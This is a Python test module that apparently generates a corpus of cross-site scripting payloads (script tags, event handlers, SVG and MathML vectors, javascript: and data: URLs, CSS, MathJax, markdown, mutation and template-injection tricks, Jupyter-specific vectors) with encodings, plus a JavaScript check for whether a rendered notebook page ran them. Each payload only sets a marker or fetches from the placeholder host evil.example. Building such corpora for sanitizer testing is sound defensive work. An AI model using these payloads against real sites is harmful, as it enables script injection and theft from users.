"""Hostile texts, made of vectors, places to break out of and spellings; written for these tests.

Each text carries its own mark, `pwn000` and on, in plain letters, so that a page that shows it whole can be
told from one that dropped it. Each would run `{js}`, open a dialog or fetch from `evil.example`.
"""

import html
from urllib.parse import quote

__all__ = ["CORPUS", "JUDGE", "mark_of"]

URL = "https://evil.example/{mark}"
JS = "window.pwned='{mark}'"

#: Markup, addresses, styles and code that some reader of text would run or fetch.
VECTORS = (
    # script tags
    "<script>{js}</script>",
    "<SCRIPT SRC={url}></SCRIPT>",
    "<script/x>{js}</script>",
    "<script\n>{js}</script\n>",
    "<script type=module>import '{url}';{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script>alert('{mark}')</script>",
    "<script src=data:,{js}></script>",
    "<noscript><img src=x onerror={js}></noscript>",
    # event handlers
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<img/src=x/onerror={js}//",
    "<IMG SRC=x OnErRoR={js}>",
    "<img src=x onerror\n=\n{js}>",
    "<img src=x:x onerror=prompt('{mark}')>",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<video src=x onerror={js}></video>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<marquee onstart={js}>x</marquee>",
    "<div onmouseover={js} style=position:fixed;inset:0>{mark}</div>",
    "<div onpointerrawupdate={js} onclick={js} tabindex=1 onfocus={js}>{mark}</div>",
    "<style onload={js}></style>",
    "<keygen autofocus onfocus={js}>",
    "<object data=x onerror={js}></object>",
    "<a href=x onclick={js} onfocus={js} autofocus>{mark}</a>",
    "<button popovertarget=p onclick={js}>x</button><div popover id=p onbeforetoggle={js}></div>",
    "<div style='animation:x 1s' onanimationstart={js}></div><style>@keyframes x{{}}</style>",
    # svg and math
    "<svg onload={js}>",
    "<svg/onload={js}//",
    "<svg><script>{js}</script></svg>",
    "<svg><script xlink:href={url} /></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x to=1>",
    "<svg><a xlink:href=javascript:{js}><text y=20>{mark}</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{js}</script>'></iframe></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload={js}>></use></svg>",
    "<svg><image href={url} onerror={js}></image></svg>",
    "<math href=javascript:{js}><mi>{mark}</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={js}></annotation-xml></math>",
    # frames and addresses
    "<iframe src=javascript:parent.{js}></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src={url}></iframe>",
    "<embed src={url}>",
    "<object data=data:text/html,<script>parent.{js}</script>></object>",
    "<base href={url}/>",
    "<link rel=stylesheet href={url}>",
    "<link rel=prefetch href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<form action={url}><button>{mark}</button></form>",
    "<a href=javascript:{js}>{mark}</a>",
    "<a href='jav&#x09;ascript:{js}'>{mark}</a>",
    "<a href='&#1;javascript:{js}'>{mark}</a>",
    "<a href=data:text/html,<script>{js}</script>>{mark}</a>",
    "<a ping={url} href=x>{mark}</a>",
    "<img src={url}>",
    "<img srcset='{url} 1x'>",
    "<video poster={url} src={url} autoplay></video>",
    "<table background={url}><tr><td background={url}>{mark}</td></tr></table>",
    "javascript:{js}",
    "JaVaScRiPt:{js}//{mark}",
    "java\tscript:{js}",
    "vbscript:msgbox('{mark}')",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{mark}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js}\"/>",
    "//evil.example/{mark}.js",
    "\\\\evil.example\\{mark}",
    # styles
    "<style>@import '{url}';</style>",
    "<style>*{{background:url({url})}}</style>",
    "<div style=background:url({url})>{mark}</div>",
    "<div style='width:expression({js})'>{mark}</div>",
    "<div style='-moz-binding:url({url});behavior:url({url})'>{mark}</div>",
    "color:red;background:url({url});/*{mark}*/",
    "<p style='font-family:\"x\";src:url({url})'>{mark}</p>",
    # what MathJax reads
    "$$\\href{{javascript:{js}}}{{{mark}}}$$",
    "\\(\\href{{javascript:{js}}}{{{mark}}}\\)",
    "\\[\\style{{background:url({url})}}{{{mark}}}\\]",
    "$\\unicode{{<img src=x onerror={js}>}}$",
    "$$\\require{{html}}\\cssId{{x}}{{{mark}}}\\class{{x}}{{y}}$$",
    "$\\def\\x{{\\x}}\\x$ {mark}",
    "\\begin{{align}}\\text{{<img src=x onerror={js}>}}\\end{{align}}",
    '$$\\require{{enclose}}\\enclose{{x}}[onclick="{js}"]{{{mark}}}$$',
    "\\(\\includegraphics{{{url}}}\\)",
    # markdown
    "[{mark}](javascript:{js})",
    "![{mark}]({url})",
    "<javascript:{js}>",
    '[{mark}]: javascript:{js} "x"\n[{mark}]',
    "```html\n<img src=x onerror={js}>\n```",
    "`</code><img src=x onerror={js}>`",
    "**</b><img src=x onerror={js}>**",
    "    <img src=x onerror={js}>\n\n| a |\n|---|\n| <img src=x onerror={js}> |",
    # what changes when a page is read twice
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
    '<svg></p><style><a id="</style><img src=x onerror={js}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    '<xmp><p title="</xmp><img src=x onerror={js}>"></xmp>',
    "<template><img src=x onerror={js}></template>",
    "<template shadowrootmode=open><script>{js}</script></template>",
    "<select><style></select><img src=x onerror={js}></style>",
    '<p id="<!--"><img src=x onerror={js}>-->',
    "<svg><title><style><img src=x onerror={js}></style></title></svg>",
    "<table><td><svg><desc><td><img src=x onerror={js}></desc></svg></table>",
    # what is left open
    "<img src=x onerror={js} ",
    '<img src="{url}?',
    '<a href="{url}?{mark}',
    "<!--><img src=x onerror={js}>",
    "<!-- --!><img src=x onerror={js}>",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "<?xml version='1.0'?><img src=x onerror={js}>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{url}'>]><x>&e;</x>",
    "<textarea><img src=x onerror={js}>",
    "<plaintext>{mark}",
    "<div title='{mark}",
    # templates
    '{{{{constructor.constructor("{js}")()}}}}',
    '${{constructor.constructor("{js}")()}}',
    "#{{{js}}} <%= {js} %> {{% {js} %}}",
    '<div ng-app ng-init="{js}" v-html="{js}" x-init="{js}">{mark}</div>',
    "%(mark)s {{0.__class__.__mro__}} {mark}",
    # the page of the notebook itself
    "</script><script>{js}</script>",
    "application/javascript {js}",
    "<button data-commandlinker-command='terminal:open' data-commandlinker-args='{{}}'>{mark}</button>",
    "<div class=jp-OutputArea-output id=main data-mime-type=text/html onclick={js}>{mark}</div>",
    "<widgets-manager></widgets-manager><script type=application/vnd.jupyter.widget-view+json>{js}</script>",
    "\u001b[31m\u001b]8;;javascript:{js}\u0007{mark}\u001b]8;;\u0007\u001b[0m",
)

#: Ways out of a place that a careless program puts text into, before the strongest vectors.
BREAKS = (
    '"',
    "'",
    '">',
    "'>",
    "`>",
    " x=",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</div></details></table>",
    "</span></bdi></code></pre>",
)
STRONG = (
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    " onmouseover={js} onfocus={js} autofocus x='{mark}",
    "<iframe src=javascript:parent.{js}></iframe>",
    "<script>{js}</script>",
)
#: Other spellings, which some reader turns back.
SPELLINGS = {
    "entities": html.escape,
    "entities twice": lambda text: html.escape(html.escape(text)),
    "numbers without an end": lambda text: text.replace("<", "&#60").replace(">", "&#0000062"),
    "percent": lambda text: quote(text, safe="='."),
    "full width": lambda text: text.translate({0x3C: "\uff1c", 0x3E: "\uff1e", 0x22: "\uff02"}),
    "backslash u": lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    "null bytes": lambda text: text.replace("<", "<\0"),
    "right to left": lambda text: f"\u202e\u2066{text}\u2069\u202c",
    "no width": lambda text: text.replace("<", "\ufeff<\u200b"),
    "line separators": lambda text: text.replace(" ", "\u2028"),
    "seven bits": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
}


def mark_of(number):
    """Give the mark of one text."""
    return f"pwn{number:03d}"


def _texts():
    yield from VECTORS
    yield from (way_out + vector for way_out in BREAKS for vector in STRONG)
    for spell in SPELLINGS.values():
        yield from (spell(vector.replace("{", "\ue000").replace("}", "\ue001")) for vector in STRONG)


def _made(number, template):
    mark = mark_of(number)
    spelled = template.replace("\ue000js\ue001", "{js}").replace("\ue000mark\ue001", "{mark}")
    spelled = spelled.replace("%EE%80%80js%EE%80%81", "{js}").replace("%EE%80%80mark%EE%80%81", "{mark}")
    text = spelled.format(js=JS.format(mark=mark), url=URL.format(mark=mark), mark=mark)
    return text if mark in text else f"{text} {mark}"


CORPUS = tuple(_made(number, template) for number, template in enumerate(_texts()))

#: Looks into a page and all its frames: what ran, and which marks stand there to be read. It also sets off
#: whatever a person could set off by moving about.
JUDGE = """() => {
  const area = document.body;
  for (const details of area.querySelectorAll('details')) details.open = true;
  const mine = area.querySelectorAll('.jp-OutputArea-output, .jp-OutputArea-output *, .mine, .mine *');
  for (const element of mine)
    for (const kind of ['mouseover', 'pointerover', 'focus', 'focusin', 'load', 'error', 'toggle',
                        'animationstart', 'pointerrawupdate'])
      element.dispatchEvent(new Event(kind, {bubbles: false}));
  const text = [...(document.querySelectorAll('.jp-OutputArea-output, .mine'))]
    .map((element) => element.textContent).join('\\n');
  return {
    pwned: typeof window.pwned,
    marks: [...new Set(text.match(/pwn\\d{3}/g) || [])],
    foreign: [...mine].filter((element) =>
        /^(script|iframe|object|embed|link|style|base|meta|form|svg|math)$/i.test(element.tagName)
        || [...element.attributes].some((attribute) => /^on/i.test(attribute.name)))
      .map((element) => element.outerHTML.slice(0, 200)),
    elements: mine.length,
  };
}"""
